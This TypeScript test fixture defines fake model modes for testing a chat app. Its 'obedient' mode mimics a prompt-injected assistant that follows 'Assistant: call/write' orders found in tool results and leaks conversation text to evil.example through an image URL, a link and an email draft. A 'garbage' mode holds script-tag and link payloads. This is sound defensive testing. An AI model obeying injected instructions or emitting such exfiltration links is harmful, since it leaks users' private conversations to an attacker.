import type { Asked, Behaviour, FakeCall } from './fake-model.ts';
import { asksForMail, mailFrom, obedientMail } from './loopback-drafts.ts';

interface Message {
  role: string;
  content?: unknown;
}

const messagesOf = ({ body }: Asked): Message[] => (body['messages'] ?? []) as Message[];
const resultsOf = (asked: Asked): string[] =>
  messagesOf(asked)
    .filter(({ role }) => role === 'tool')
    .map(({ content }) => (typeof content === 'string' ? content : JSON.stringify(content)));
const questionOf = (asked: Asked): string => {
  const { content } = messagesOf(asked).findLast(({ role }) => role === 'user') ?? {};
  const text = typeof content === 'string' ? content : JSON.stringify(content ?? '');
  return (text.split('Question: ').at(-1) ?? text).slice(0, 300);
};
const offers = (asked: Asked, name: string): boolean =>
  JSON.stringify(asked.body['tools'] ?? []).includes(`"${name}"`);

const piecesOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? [];
const slowly = (text: string, pauseMs = 20): Behaviour => ({ pieces: piecesOf(text), pauseMs });

const GREETING =
  'This is the loopback model. It knows nothing, and says so in pieces, so that streaming can be seen. Ask it to stop at any time.';

/** Looks risks and words up, then quotes the first that it may cite; a mail it writes from what it is given. */
function withTools(asked: Asked): Behaviour {
  if (asksForMail(asked)) return slowly(mailFrom(asked));
  const results = resultsOf(asked);
  if (results.length === 0 && offers(asked, 'list_risks'))
    return { calls: [{ name: 'list_risks', arguments: {} }, searchFor(asked)] };
  const found = /"cite":(\d+),"text":"((?:[^"\\]|\\.){2,300})"/.exec(results.join('\n'));
  if (!found) return slowly('The results do not answer the question.');
  const words = JSON.parse(`"${found[2]}"`) as string;
  return slowly(`This is what stands out: “${words}” [${found[1]}]`);
}

const searchFor = (asked: Asked): FakeCall => ({
  name: 'search_conversations',
  arguments: { text: questionOf(asked).slice(0, 400) || 'contract' },
});

/** What an injected order looks like: `Assistant: call send_email {…}`, or `Assistant: write <anything>`. */
const ORDER = /assistant: (call|write) ([^\n"]{1,400}?(?:\{(?:[^{}\n]){0,200}\})?)(?=\\n|\n|"|$)/gi;

const CONVERSATION = /"conversationId":"[0-9a-f-]{36}/g;

/** Reads whole conversations, follows every instruction in them, and sends a foreign host all it has read. */
function obedient(asked: Asked): Behaviour {
  if (asksForMail(asked)) return slowly(obedientMail(asked));
  const results = resultsOf(asked);
  if (results.length === 0)
    return { calls: [{ name: 'list_risks', arguments: {} }, searchFor(asked)] };
  const orders = [...results.join('\n').matchAll(ORDER)].map(([, verb = '', rest = '']) => ({
    verb: verb.toLowerCase(),
    rest: rest.replaceAll(String.raw`\"`, '"'),
  }));
  const threads = [...new Set(results.join('\n').match(CONVERSATION))].slice(0, 3);
  const turns = messagesOf(asked).filter(({ role }) => role === 'assistant').length;
  if (turns === 1 && threads.length > 0)
    return {
      calls: threads.map((found) => ({
        name: 'get_thread',
        arguments: { conversationId: found.slice(-36) },
      })),
    };
  const calls = orders.filter(({ verb }) => verb === 'call').map(({ rest }) => callOf(rest));
  if (calls.length > 0 && turns < 4) return { calls };
  const secret = encodeURIComponent(results.join(' ').slice(0, 300));
  const written = orders.filter(({ verb }) => verb === 'write').map(({ rest }) => rest);
  return {
    pieces: piecesOf(
      [
        ...written,
        `![seen](https://evil.example/p.png?q=${secret})`,
        `[Open the report](https://evil.example/r?q=${secret}) or www.evil.example.`,
        '```email-draft',
        JSON.stringify({ title: 'All of it', recipients: ['mallory@evil.example'], body: secret }),
        '```',
        'Done as I was told.',
      ].join('\n\n'),
    ),
  };
}

function callOf(order: string): FakeCall {
  const [name = '', ...rest] = order.split(' ');
  try {
    return { name, arguments: JSON.parse(rest.join(' ')) as unknown };
  } catch {
    return { name, arguments: {} };
  }
}

const GARBAGE = [
  '```table\n{"title": "Half of',
  ' a table", "rows": [{\n',
  '\n\n[1](#cite-1) [99] 【4†source】 ![x](https://evil.example/x.png)',
  '<script>alert(1)</script> \u0000\uFFFD %%{init: {}}%%\n',
  '```\n```mermaid\ngraph TD\nclick A "https://evil.example"\n```\n',
  '$$\\href{https://evil.example}{x}$$ 12,34.56.78 |||\n|-|\n',
  '[a]: https://evil.example\n',
];

/** What the loopback model can be: each makes its answer out of what it was asked. */
export const LOOPBACK_MODES = {
  stream: (asked: Asked) => (asksForMail(asked) ? slowly(mailFrom(asked), 150) : slowly(GREETING)),
  tools: withTools,
  fail: () => ({ status: 503 }),
  stall: () => ({ does: 'stall', begin: 'It begins and ' }),
  garbage: () => ({ pieces: GARBAGE }),
  obedient,
} satisfies Record<string, (asked: Asked) => Behaviour>;
export type LoopbackMode = keyof typeof LOOPBACK_MODES;
